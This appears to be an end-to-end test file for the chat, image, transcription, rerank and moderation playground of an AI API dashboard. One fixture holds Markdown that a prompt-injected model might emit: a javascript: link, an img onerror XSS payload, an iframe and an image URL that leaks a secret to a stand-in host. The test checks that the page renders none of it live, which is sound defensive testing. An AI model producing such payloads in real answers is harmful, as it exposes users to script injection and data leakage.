import { execFile } from "node:child_process";
import { promisify } from "node:util";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { browserOfFile } from "../support/browser.ts";
import { faultsOf, figure, moneyShown, signedIn } from "../support/browser-screens.ts";
import { drawing, images, providerImages } from "../support/generation-setup.ts";
import { pdf, png, wav } from "../support/media-files.ts";
import { startMockOpenai } from "../support/mock-openai.ts";
import { ofFile } from "../support/of-file.ts";
import { testStores } from "../support/servers.ts";
import { startService } from "../support/service.ts";
import { entriesOf, gate, never, providerModel } from "../support/service-setup.ts";

const browser = browserOfFile();
/** One worker that generates one image at a time. */
const shared = ofFile(
  async (onEnd) => {
    const provider = await startMockOpenai();
    const env = { OPENAI_API_KEY: "sk-operator", OPENAI_BASE_URL: provider.url, WORKER_CONCURRENCY_IMAGE: "1" };
    const stores = await testStores();
    const service = await startService(stores, { env, onEnd });
    onEnd(() => provider.close());
    return { service, provider, storage: new URL(stores.S3_ENDPOINT).origin };
  },
  ({ provider }) => provider.reset(),
);

const conversation = (page: Page) => page.getByRole("list", { name: "Conversation" }).getByRole("listitem");

async function say(page: Page, text: string): Promise<void> {
  await page.getByLabel("Message").fill(text);
  await page.keyboard.press("Enter");
}

test("an answer appears piece by piece, and the balance, the page and the ledger agree about its cost", async () => {
  const { service, provider } = shared;
  const { page, customer } = await signedIn(browser, service);
  await page.goto(`/dashboard/playground?model=${providerModel}`);
  const rest = gate();
  provider.respond({ text: "One, two, three, four.", beforeEvent: { 3: rest.opened } });
  await say(page, "Count");
  await expect.poll(() => conversation(page).allTextContents()).toEqual(["YouCount", "ModelOne, two,"]);
  expect(await provider.request(0)).toMatchObject({ eventsSent: 3, aborted: false });
  await page.getByRole("button", { name: "Stop" }).waitFor();
  expect(await faultsOf(page)).toEqual([]);
  rest.open();
  await expect.poll(() => conversation(page).last().textContent()).toBe("ModelOne, two, three, four.");

  const [entry] = await entriesOf(service, customer);
  await page.getByText(`Cost ${moneyShown(entry?.amount_usd ?? "")}`, { exact: true }).waitFor();
  await page.getByRole("link", { name: "Overview" }).click();
  const available = moneyShown(await customer.available());
  await expect.poll(() => figure(page, "Available").textContent()).toBe(available);
});

test("Stop in mid-answer keeps the received text, closes the provider's connection, and shows the ledger's charge", async () => {
  const { service, provider } = shared;
  const { page, customer } = await signedIn(browser, service, {
    expectedErrors: /status of 404 .*\/v1\/requests\/req_/,
  });
  await page.goto(`/dashboard/playground?model=${providerModel}`);
  const partial = { text: "One, two, three, four.", beforeEvent: { 3: never } };
  provider.respond(partial, partial);
  const stopAfterTwo = async (index: number) => {
    const answer = async () => (await conversation(page).allTextContents()).slice(2 * index + 1);
    await expect.poll(answer).toEqual(["ModelOne, two,"]);
    await page.getByRole("button", { name: "Stop" }).click();
    await page.getByText("Stopped", { exact: true }).waitFor();
    const request = await provider.request(index);
    await request.closed;
    expect(request.aborted).toBe(true);
    expect(await answer()).toEqual(["ModelOne, two,"]);
  };
  await say(page, "Count");
  await stopAfterTwo(0);
  await say(page, "Go on");
  await stopAfterTwo(1);
  const said = { role: "assistant", content: "One, two," };
  const messages = [{ role: "user", content: "Count" }, said, { role: "user", content: "Go on" }];
  expect((await provider.request(1)).body["messages"]).toEqual(messages);

  // Open the call immediately, when its cost may not be captured yet.
  await page.getByRole("link", { name: "Details of the call" }).click();
  const entries = await entriesOf(service, customer);
  const shown = figure(page, "Cost");
  // The page retries for two seconds; on a busy machine the capture may take longer.
  const again = page.getByRole("button", { name: "Try again" });
  await shown.or(again).first().waitFor();
  if (await again.isVisible()) await again.click();
  await shown.waitFor();
  expect(entries.map(({ request }) => request.status)).toEqual(["cancelled", "cancelled"]);
  const second = entries.find(({ id }) => page.url().endsWith(id));
  expect(Number(second?.amount_usd)).toBeLessThan(0);
  expect(await shown.textContent()).toBe(moneyShown(second?.amount_usd ?? ""));
});

test("an image goes on when the page is left and loaded anew, from its place in the queue to its cost in the ledger", async () => {
  const { service, provider, storage } = shared;
  const { page, customer } = await signedIn(browser, service, { origins: [storage] });
  await page.goto("/dashboard/playground?model=local/image");
  const [first, second] = [gate(), gate()];
  provider.respond({ beforeHeaders: first.opened }, { beforeHeaders: second.opened });
  const draw = () =>
    customer.post(images, drawing("a lighthouse", { model: providerImages, size: "1024x1024" }), {
      headers: { prefer: "respond-async" },
    });
  const statuses = async () => {
    const listed = await fetch(`${service.baseUrl}/v1/jobs`, { headers: { authorization: `Bearer ${customer.key}` } });
    return ((await listed.json()) as { data: { status: string }[] }).data.map(({ status }) => status);
  };
  expect((await draw()).status).toBe(202);
  await provider.request(0);
  expect((await draw()).status).toBe(202);
  await expect.poll(statuses).toEqual(["queued", "in_progress"]);

  await page.getByLabel("Prompt", { exact: true }).fill("A sunrise");
  await page.getByRole("button", { name: "Generate image" }).click();
  const place = figure(page, "Place in the queue");
  await expect.poll(() => place.textContent()).toBe("Number 2");
  expect(await faultsOf(page)).toEqual([]);
  await page.getByRole("link", { name: "Overview" }).click();
  await page.getByRole("link", { name: "Playground", exact: true }).click();
  await expect.poll(() => place.textContent()).toBe("Number 2");
  await page.reload();
  await expect.poll(() => place.textContent()).toBe("Number 2");
  expect(await page.getByLabel("Prompt", { exact: true }).inputValue()).toBe("A sunrise");
  first.open();
  await expect.poll(() => place.textContent()).toBe("Next");
  second.open();
  const preview = page.getByRole("img", { name: /^Preview of/ });
  await expect
    .poll(() => preview.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth))
    .toBeGreaterThan(0);
  await page.getByText(/^Deleted in 23 h 5\d min$/).waitFor();
  expect(await faultsOf(page)).toEqual([]);

  const drawn = (await entriesOf(service, customer)).filter(({ request }) => request.model === "local/image");
  expect(drawn.map(({ request }) => request.status)).toEqual(["succeeded"]);
  await expect.poll(() => figure(page, "Cost").textContent()).toBe(moneyShown(drawn[0]?.amount_usd ?? ""));
  await page.getByRole("link", { name: "Details of the job" }).click();
  await page.getByRole("link", { name: "Attempts and cost" }).click();
  await page
    .getByRole("row", { name: /^Charged/ })
    .getByText(moneyShown(drawn[0]?.amount_usd ?? ""))
    .waitFor();

  const third = gate();
  provider.respond({ beforeHeaders: third.opened });
  expect((await draw()).status).toBe(202);
  await provider.request(2);
  await page.getByRole("link", { name: "Playground", exact: true }).click();
  await page.getByRole("button", { name: "Generate image" }).click();
  await expect.poll(() => place.textContent()).toBe("Next");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect.poll(() => figure(page, "Status").textContent()).toBe("Cancelled");
  expect(await figure(page, "Cost").textContent()).toBe("$0.00");
  third.open();
  const ended = (await entriesOf(service, customer)).filter(({ request }) => request.status === "cancelled");
  expect(ended.map(({ amount_usd }) => Number(amount_usd))).toEqual([0]);
});

test("a conversation goes on while other pages are open, outlives a reload, and code to copy asks its question again", async () => {
  const { service, provider } = shared;
  const { page, own } = await signedIn(browser, service, { permissions: ["clipboard-read", "clipboard-write"] });
  await page.goto(`/dashboard/playground?model=${providerModel}`);
  await page.getByLabel("System prompt").fill("Be brief.");
  const rest = gate();
  provider.respond({ text: "One, two, three, four.", beforeEvent: { 3: rest.opened } });
  await say(page, "Count");
  await expect.poll(() => conversation(page).allTextContents()).toEqual(["YouCount", "ModelOne, two,"]);
  await page.getByRole("link", { name: "Keys", exact: true }).click();
  await page.getByRole("heading", { name: "Keys", level: 1 }).waitFor();
  expect(await provider.request(0)).toMatchObject({ aborted: false });
  rest.open();
  await page.getByRole("link", { name: "Playground", exact: true }).click();
  await expect.poll(() => conversation(page).allTextContents()).toEqual(["YouCount", "ModelOne, two, three, four."]);

  const messages = [
    { role: "system", content: "Be brief." },
    { role: "user", content: "Count" },
  ];
  expect((await provider.request(0)).body["messages"]).toEqual(messages);
  await page.getByRole("button", { name: "Copy as code" }).click();
  await page.getByRole("button", { name: "Copy curl" }).click();
  await expect.poll(() => page.evaluate<string>("navigator.clipboard.readText()")).toContain("chat/completions");
  const command = await page.evaluate<string>("navigator.clipboard.readText()");
  await promisify(execFile)("sh", ["-c", command], { env: { ...process.env, API_KEY: own.key } });
  expect((await provider.request(1)).body["messages"]).toEqual(messages);
  await page.keyboard.press("Escape");

  provider.respond({ text: "Five, six, seven.", beforeEvent: { 3: never } });
  await say(page, "Go on");
  const all = ["YouCount", "ModelOne, two, three, four.", "YouGo on", "ModelFive, six,"];
  await expect.poll(() => conversation(page).allTextContents()).toEqual(all);
  await page.getByLabel("Message").fill("And then?");
  await page.reload();
  await expect.poll(() => conversation(page).allTextContents()).toEqual(all);
  const stopped = await provider.request(2);
  await stopped.closed;
  expect(stopped.aborted).toBe(true);
  expect(await page.getByLabel("Message").inputValue()).toBe("And then?");
  await page.getByRole("link", { name: "Details of the call" }).waitFor();

  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByLabel("API key").waitFor();
  expect(await page.evaluate<string[]>("Object.keys(sessionStorage)")).not.toContainEqual(
    expect.stringContaining("conversation"),
  );
});

/** What a model could be made to say by a page that it has read. */
const hostile = `# Title

Some **bold** text, [a link](https://elsewhere.example/), [a script](javascript:alert(1)) and
![a picture](https://elsewhere.example/leak?q=secret) <img src=x onerror=alert(1)>

<iframe src="https://elsewhere.example/"></iframe>

- [x] done

| a | b |
| - | - |
| 1 | 2 |

\`\`\`py
print("<b>")
\`\`\`
`;

test("an answer's Markdown is laid out, and nothing in it loads, runs or leads anywhere by itself", async () => {
  const { service, provider } = shared;
  const { page } = await signedIn(browser, service);
  await page.goto(`/dashboard/playground?model=${providerModel}`);
  provider.respond({ text: hostile });
  await say(page, "Say **it**");
  const answer = conversation(page).nth(1);
  await answer.getByRole("heading", { name: "Title" }).waitFor();
  expect(await conversation(page).first().textContent()).toBe("YouSay **it**");
  await answer.getByText("bold", { exact: true }).and(page.locator("strong")).waitFor();
  await answer.getByRole("cell", { name: "2" }).waitFor();
  await answer.getByRole("button", { name: "Copy py" }).waitFor();
  expect(await answer.locator("pre").textContent()).toBe('print("<b>")');
  const links = answer.getByRole("link");
  expect(await links.allTextContents()).toEqual(["a link", "a picture", expect.stringContaining("elsewhere")]);
  for (const link of await links.all())
    expect(await link.getAttribute("href")).toMatch(/^https:\/\/elsewhere\.example\//);
  expect(await answer.locator("img, iframe, script, input").count()).toBe(0);
  expect(await faultsOf(page)).toEqual([]);
  // What asks a foreign host or throws fails the test when the page closes.
});

test("a picture, a recording and a PDF reach a model that reads them, and what it cannot read is refused in words", async () => {
  const { service, storage } = shared;
  const { page, customer } = await signedIn(browser, service, { origins: [storage] });
  await page.goto("/dashboard/playground?model=local/chat");
  const attach = page.getByLabel("Attach files");
  await attach.setInputFiles({ name: "notes.zip", mimeType: "application/zip", buffer: Buffer.from("PK") });
  await page.getByText("notes.zip: local/chat takes images, recordings, PDFs.").waitFor();
  await attach.setInputFiles([
    { name: "dot.png", mimeType: "image/png", buffer: png(16, 16) },
    { name: "talk.wav", mimeType: "audio/wav", buffer: wav(1) },
    { name: "paper.pdf", mimeType: "application/pdf", buffer: pdf(["A paper"]) },
  ]);
  const attachments = page.getByRole("list", { name: "Attachments" }).getByRole("listitem");
  await expect.poll(() => attachments.count()).toBe(3);
  await page.getByText("paper.pdf").waitFor();
  expect(await faultsOf(page)).toEqual([]);
  await say(page, "What is this?");
  await expect.poll(() => conversation(page).count()).toBe(2);
  await page.getByText(/^Cost/).waitFor();
  expect(await attachments.count()).toBe(0);
  const [entry] = await entriesOf(service, customer);
  expect(entry?.request).toMatchObject({ status: "succeeded", usage: { audio_input: 10 } });
  await page.reload();
  await conversation(page)
    .first()
    .getByRole("img", { name: /^Preview of image/ })
    .waitFor();

  await page.getByLabel("Model", { exact: true }).selectOption("local/transcription");
  await page.getByRole("group", { name: "Timestamps" }).getByLabel("word").check();
  await page.getByLabel("Recording", { exact: true }).selectOption({ index: 1 });
  await page.getByRole("button", { name: "Transcribe" }).click();
  await page.getByRole("region", { name: "Text" }).waitFor();
  expect(await faultsOf(page)).toEqual([]);
});

test("documents are ranked, and a text is checked", async () => {
  const { service } = shared;
  const { page } = await signedIn(browser, service);
  await page.goto("/dashboard/playground?model=local/rerank");
  await page.getByLabel("Query").fill("red apples");
  await page.getByLabel("Documents", { exact: true }).fill("blue sky\nred apples are sweet");
  await page.getByRole("button", { name: "Rank" }).click();
  const rows = page.getByRole("table", { name: "Documents by relevance" }).getByRole("row");
  await expect.poll(() => rows.nth(1).textContent()).toContain("red apples are sweet");
  expect(await faultsOf(page)).toEqual([]);
  await page.getByLabel("Model", { exact: true }).selectOption("local/moderation");
  await page.getByLabel("Text").fill("I will kill you");
  await page.getByRole("button", { name: "Check" }).click();
  await page.getByText("Flagged", { exact: true }).waitFor();
  expect(await faultsOf(page)).toEqual([]);
});
